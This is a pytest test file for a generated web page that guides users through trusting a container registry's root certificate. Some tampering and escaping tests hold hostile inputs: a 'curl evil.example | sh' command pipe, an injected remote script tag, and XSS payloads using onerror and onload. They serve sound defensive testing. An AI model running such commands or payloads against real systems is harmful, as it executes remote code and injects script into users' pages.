"""The page that says how each machine is told: whole in one file, true to the table, safe whatever reaches it."""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import itertools
import os
import re
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from ruamel.yaml import YAML

from tests.disk import snapshot
from tests.programs import put
from tests.trust import sample
from tests.trust.remote.pages import KIT, NAME, Element, Read, _is_in, rendered
from trusted_registry.trust import client_stores
from trusted_registry.trust.model import LINUX, File, RestartHint, TrustAnchor
from trusted_registry.trust.remote import page

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

GOLDEN = Path(__file__).parents[2] / "golden" / "trust-macos.txt"


@pytest.fixture(scope="module")
def made() -> Read:
    """The page for the sample."""
    return Read(rendered().decode())


# One file, for every reader


def test_nothing_is_loaded_from_anywhere(made: Read) -> None:
    targets = [
        it.attributes[name] for it in made.elements for name in ("href", "src", "action") if name in it.attributes
    ]
    assert {target.partition(":")[0] if ":" in target else target[:1] for target in targets} == {"#", "data"}
    assert not made.all("link", "img", "iframe", "object", "form", "base")
    assert not [it.text for it in made.all("style") if re.search(r"url\(|@import|expression", it.text)]


def test_links_within_the_page_lead_somewhere_and_no_name_is_given_twice(made: Read) -> None:
    names = [it.attributes["id"] for it in made.elements if "id" in it.attributes]
    inside = [href[1:] for it in made.all("a") if (href := it.attributes["href"]).startswith("#")]
    labels = [it.attributes["aria-labelledby"] for it in made.all("section")]
    assert (len(names), set(inside) <= set(names), set(labels) <= set(names)) == (len(set(names)), True, True)
    assert inside == ["linux", "macos", "windows", "kind", "k3s", "hand", "try", "back"]


def test_it_says_its_language_its_title_and_that_it_fits_a_phone(made: Read) -> None:
    (root,), (title,) = made.all("html"), made.all("title")
    viewport = [it.attributes["content"] for it in made.all("meta") if it.attributes.get("name") == "viewport"]
    assert (root.attributes["lang"], title.text) == ("en", "Trust the registry 192.168.0.12")
    assert viewport == ["width=device-width, initial-scale=1"]


def test_its_headings_are_one_outline(made: Read) -> None:
    levels = [int(it.tag[1]) for it in made.all("h1", "h2", "h3", "h4")]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after <= before + 1 for before, after in itertools.pairwise(levels))


def test_what_scrolls_can_be_reached_by_keyboard(made: Read) -> None:
    assert {it.attributes.get("tabindex") for it in made.all("pre")} == {"0"}


def _colours(style: str) -> Iterator[dict[str, str]]:
    for block in re.findall(r":root \{(.*?)\}", style, re.DOTALL):
        yield dict(re.findall(r"--([a-z]+): (#[0-9a-f]{6})", block))


def _luminance(colour: str) -> float:
    """Return the relative luminance (WCAG 2.2)."""
    parts = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
    red, green, blue = (it / 12.92 if it <= 0.04045 else ((it + 0.055) / 1.055) ** 2.4 for it in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def test_its_contrast_is_enough_by_day_by_night_and_on_paper(made: Read) -> None:
    schemes = list(_colours(made.all("style")[0].text))
    assert len(schemes) == 3
    for scheme in schemes:
        for ink in ("text", "quiet", "link"):
            for paper in ("paper", "code", "mark"):
                high, low = sorted((_luminance(scheme[ink]), _luminance(scheme[paper])), reverse=True)
                assert (high + 0.05) / (low + 0.05) >= 4.5, (ink, paper, scheme)


def test_its_policy_lets_run_what_is_in_it_and_nothing_else() -> None:
    shown = rendered()
    allowed = page.policy(shown)
    for tag in ("style", "script"):
        (element,) = Read(shown.decode()).all(tag)
        digest = base64.b64encode(hashlib.sha256(element.text.encode()).digest()).decode()
        assert f"{tag}-src 'sha256-{digest}'" in allowed
    assert allowed.startswith("default-src 'none';")
    assert "unsafe" not in allowed
    assert not re.search(rb"<[^>]* (style|on[a-z]+)=", shown)


# What it carries


@pytest.mark.process
def test_the_fingerprint_is_what_openssl_says(made: Read) -> None:
    argv = ["openssl", "x509", "-noout", "-fingerprint", "-sha256"]
    said = subprocess.run(argv, input=sample.CERTIFICATE, capture_output=True, check=True).stdout.decode()
    (shown,) = [it.text for it in made.elements if it.attributes.get("id") == "fingerprint"]
    assert shown == said.partition("=")[2].strip()


def test_the_fingerprint_is_in_pieces_that_an_eye_can_compare(made: Read) -> None:
    pieces = [it.text for it in made.all("span") if any(up.attributes.get("id") == "fingerprint" for up in it.parents)]
    assert [len(re.findall("[0-9A-F]{2}", piece)) for piece in pieces] == [8, 8, 8, 8]


def _swapped_kit(shown: bytes) -> bytes:
    theirs = KIT.replace(b"trusted", b"swapped")
    assert shown.count(base64.b64encode(KIT)) == 1
    return shown.replace(base64.b64encode(KIT), base64.b64encode(theirs)).replace(
        hashlib.sha256(KIT).hexdigest().encode(), hashlib.sha256(theirs).hexdigest().encode()
    )


def _swapped_certificate(shown: bytes) -> bytes:
    assert base64.b64encode(sample.CERTIFICATE) in shown
    theirs = base64.b64encode(sample.CERTIFICATE.replace(b"M", b"N"))
    return shown.replace(base64.b64encode(sample.CERTIFICATE), theirs)


@pytest.mark.parametrize(
    "swap",
    [
        _swapped_kit,
        _swapped_certificate,
        lambda shown: shown.replace(b"sudo security", b"curl evil.example | sh; sudo security"),
        lambda shown: shown.replace(b"-ne ", b"-eq "),
        lambda shown: shown.replace(b"</body>", b"<script src=//evil.example></script></body>"),
    ],
    ids=["kit and check line", "certificate", "command of a Mac", "check of PowerShell", "script"],
)
def test_whatever_is_swapped_on_the_way_the_code_is_another_and_the_fingerprint_shows_nothing_of_it(
    swap: Callable[[bytes], bytes],
) -> None:
    shown = rendered()
    theirs = swap(shown)
    assert theirs != shown
    assert page.code(theirs) != page.code(shown)
    (told,) = [it.text for it in Read(theirs.decode()).elements if it.attributes.get("id") == "fingerprint"]
    assert told.replace(":", "").lower() == sample.anchor().fingerprint


@pytest.mark.process
def test_the_code_is_what_the_typed_line_prints_first(tmp_path: Path) -> None:
    (tmp_path / page.SAVED).write_bytes(rendered())
    done = subprocess.run(["sha256sum", page.SAVED], cwd=tmp_path, capture_output=True, text=True, check=True)
    told = page.code(rendered())
    assert re.fullmatch("(?:[0-9a-f]{4} ){4}[0-9a-f]{4}", told)
    assert done.stdout.startswith(told.replace(" ", ""))


def test_the_page_asks_for_its_code_before_all_else_and_cannot_be_asked_itself(made: Read) -> None:
    first, *_ = made.all("section")
    assert first.attributes["aria-labelledby"] == "compare"
    assert made.boxes("compare") == ["curl -fsSo trust.html ADDRESS && sha256sum trust.html"]
    assert page.code(rendered()).replace(" ", "")[:8] not in rendered().decode()


def test_it_says_whose_authority_it_is_and_until_when(made: Read) -> None:
    told = [it.text for it in made.all("dd")]
    assert "CN=trusted-registry authority vm.local 2026-11-23 53f9,O=trusted-registry" in told
    assert "from 2026-11-23 to 2036-11-20" in told
    assert "192.168.0.12, 192.168.0.12:443" in told


@pytest.mark.parametrize(("name", "content"), [("ca.crt", sample.CERTIFICATE), (NAME, KIT)])
def test_certificate_and_kit_can_be_saved_from_it(name: str, content: bytes, made: Read) -> None:
    (link,) = [it for it in made.all("a") if it.attributes.get("download") == name]
    assert base64.b64decode(link.attributes["href"].partition(";base64,")[2]) == content


@pytest.mark.parametrize(
    "hostile",
    ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'/><svg onload=alert(1)>", "</code></pre><b>"],
)
def test_whatever_reaches_it_stays_text(hostile: str, made: Read) -> None:
    shown = Read(rendered(hostile, f"{hostile}:443", registry_host=hostile, name=f"{hostile}.sh").decode())
    ours = {(it.tag, *sorted(it.attributes)) for it in made.elements}
    assert {(it.tag, *sorted(it.attributes)) for it in shown.elements} == ours
    assert hostile in shown.all("h1")[0].text


# The table's, not its own


def test_every_store_of_linux_is_told_with_its_places_and_what_comes_after(made: Read) -> None:
    rows = {it.text.removesuffix(" (with --system)"): it.parents[-1].text for it in made.all("th")}
    anchor = sample.anchor()
    shown = {"home": "~", "config": "~/.config", "data": "~/.local/share", "docker": "~/.docker"}
    for store in (it for it in client_stores.STORES if it.system == LINUX):
        row = rows[store.clients]
        for file in store.files(anchor):
            assert file.registry_host not in ("", "192.168.0.12") or file.path.format(**shown) in row
        assert not store.restart or f"{store.restart.why}: {store.restart.command}" in row
        assert not store.refresh or " ".join(store.refresh.command) in row
        assert store.on_request == ("--system" in row)


def test_a_path_that_changes_in_the_table_changes_on_the_page(monkeypatch: pytest.MonkeyPatch) -> None:
    def moved(anchor: TrustAnchor) -> tuple[File, ...]:
        return tuple(File(f"/moved/{it}/ca.crt", anchor.content, it) for it in anchor.registry_hosts)

    changed = [
        dataclasses.replace(it, files=moved, restart=RestartHint("dreams", "wake it")) if it.key == "docker" else it
        for it in client_stores.STORES
    ]
    monkeypatch.setattr(client_stores, "STORES", tuple(changed))
    shown = Read(rendered().decode())
    assert "dreams: wake it" in "".join(row.text for row in shown.all("tr"))
    assert "sudo install -D -m 0644 ca.crt /moved/192.168.0.12:443/ca.crt" in "\n".join(shown.boxes("hand"))
    assert "/etc/docker/certs.d" not in "\n".join(shown.boxes("hand"))


@pytest.mark.parametrize("engine", ["docker-desktop", "colima", "orbstack"])
def test_each_engine_of_a_mac_is_told_with_its_own_restart(engine: str, made: Read) -> None:
    store = next(it for it in client_stores.STORES if it.key == f"macos-{engine}")
    (told,) = [it.text for it in made.all("li") if it.text.startswith(store.clients) and _is_in(it, "macos")]
    assert (store.restart.command in told) if store.restart else ("nothing is restarted" in told)


def test_a_mac_s_commands_are_as_they_were_when_they_were_checked_word_for_word(made: Read) -> None:
    macos = [text for text in made.boxes("back") if re.search(r"security|colima|HOME.*certs\.d.*ca", text)]
    assert "\n\n".join(made.boxes("macos") + [it for it in macos if ".config" not in it]) + "\n" == GOLDEN.read_text()


def test_it_says_what_to_try_and_how_to_log_in(made: Read) -> None:
    assert made.boxes("try") == ["docker pull 192.168.0.12/IMAGE", "docker login 192.168.0.12"]
    odd = Read(rendered("[fd00::12]:8443", registry_host="[fd00::12]:8443").decode())
    assert odd.boxes("try")[1] == "docker login '[fd00::12]:8443'"


def _is_folded(element: Element) -> bool:
    return any(it.tag == "details" and "open" not in it.attributes for it in element.parents)


@pytest.mark.parametrize(
    ("name", "folded"),
    [
        *(("compare", False), ("linux", False), ("try", False)),
        *(("macos", True), ("windows", True), ("kind", True), ("k3s", True), ("hand", True), ("back", True)),
    ],
)
def test_what_few_need_is_folded_and_what_all_need_is_not(name: str, made: Read, *, folded: bool) -> None:
    assert {_is_folded(it) for it in made.all("pre") if _is_in(it, name)} == {folded}
    assert all(map(_is_folded, made.all("table")))


# What is to be typed


@pytest.mark.process
@pytest.mark.parametrize("shell", ["sh", "bash"])
def test_every_command_but_powershell_s_is_one_that_a_shell_reads(shell: str) -> None:
    made = Read(rendered("[fd00::12]", "[fd00::12]:443", "it's").decode())
    for text in made.boxes():
        if "$path" not in text and "mirrors:" not in text and "[host." not in text and "-delstore" not in text:
            done = subprocess.run([shell, "-n"], input=text, text=True, capture_output=True, check=False)
            assert (done.returncode, done.stderr) == (0, ""), text


@pytest.mark.process
@pytest.mark.parametrize("registry_hosts", [("192.168.0.12", "192.168.0.12:443"), ("[fd00::12]", "[fd00::12]:443")])
def test_what_a_mac_copies_is_what_the_table_says_and_can_be_taken_back(
    registry_hosts: tuple[str, ...], tmp_path: Path
) -> None:
    made = Read(rendered(*registry_hosts, registry_host=registry_hosts[0]).decode())
    (tmp_path / "ca.crt").write_bytes(sample.CERTIFICATE)
    home = tmp_path / "a home"
    (home / ".docker" / "certs.d").mkdir(parents=True)
    before = snapshot(home)
    (copies,) = [text for text in made.boxes("macos") if "mkdir" in text]
    _type(copies, tmp_path, home)
    assert {path for path in snapshot(home) if path.endswith(".crt")} == {
        f".docker/certs.d/{registry_host}/ca.crt" for registry_host in registry_hosts
    }
    (back,) = [text for text in made.boxes("back") if "rmdir" in text and "/.docker/" in text]
    _type(back, tmp_path, home)
    assert snapshot(home) == before


@pytest.mark.process
def test_the_kit_is_run_once_its_sum_is_right_and_not_after_a_byte_was_changed(
    made: Read, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    put("sudo", 'exec "$@"', tmp_path, monkeypatch)
    checked = made.boxes("linux")[0]
    (tmp_path / NAME).write_bytes(KIT[:-1] + b" ")
    assert _type(checked, tmp_path, tmp_path, succeeds=False).returncode != 0
    assert not (tmp_path / "done").exists()
    (tmp_path / NAME).write_bytes(KIT)
    _type(checked, tmp_path, tmp_path)
    assert (tmp_path / "done").read_text() == "trusted "


@pytest.mark.process
def test_each_node_of_kind_gets_the_kit_and_runs_it_and_once_more_to_take_it_back(
    made: Read, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    put("kind", 'test "$*" = "get nodes" && echo one two | tr " " "\\n"', tmp_path, monkeypatch)
    put("docker", 'echo "$@" >> typed', tmp_path, monkeypatch)
    _type(made.boxes("kind")[0], tmp_path, tmp_path)
    _type(next(it for it in made.boxes("back") if "kind" in it), tmp_path, tmp_path)
    assert (tmp_path / "typed").read_text().splitlines() == [
        f"cp {NAME} one:/root/",
        f"exec one sh /root/{NAME}",
        f"cp {NAME} two:/root/",
        f"exec two sh /root/{NAME}",
        f"exec one sh /root/{NAME} --remove",
        f"exec two sh /root/{NAME} --remove",
    ]


def _type(text: str, folder: Path, home: Path, *, succeeds: bool = True) -> subprocess.CompletedProcess[str]:
    environ = {**os.environ, "HOME": str(home)}
    done = subprocess.run(["sh", "-c", text], cwd=folder, env=environ, capture_output=True, text=True, check=False)
    assert not succeeds or done.returncode == 0, done.stderr
    return done


def test_what_k3s_reads_is_the_form_that_it_documents(made: Read) -> None:
    (text,) = [text for text in made.boxes("k3s") if text.startswith("mirrors:")]
    authority = f"/etc/rancher/k3s/{sample.anchor().name}.crt"
    assert YAML(typ="safe").load(text) == {
        "mirrors": {it: {"endpoint": [f"https://{it}"]} for it in sample.SPELLINGS},
        "configs": {it: {"tls": {"ca_file": authority}} for it in sample.SPELLINGS},
    }
    assert f"sudo install -D -m 0644 ca.crt {authority}" in made.boxes("k3s")


def test_what_containerd_reads_is_the_table_s_for_the_first_name(made: Read) -> None:
    store = next(it for it in client_stores.STORES if it.key == "containerd")
    (expected,) = [
        it.content.decode()
        for it in store.files(sample.anchor())
        if it.path == "/etc/containerd/certs.d/192.168.0.12/hosts.toml"
    ]
    assert made.boxes("kind")[1] == expected


def test_in_a_changeover_no_command_puts_the_one_root_into_the_other_one_s_file() -> None:
    both = dataclasses.replace(sample.anchor(), beside=sample.anchor())
    assert b"ca-new.crt" not in page.render(both, "192.168.0.12", kit=KIT, kit_name=NAME)
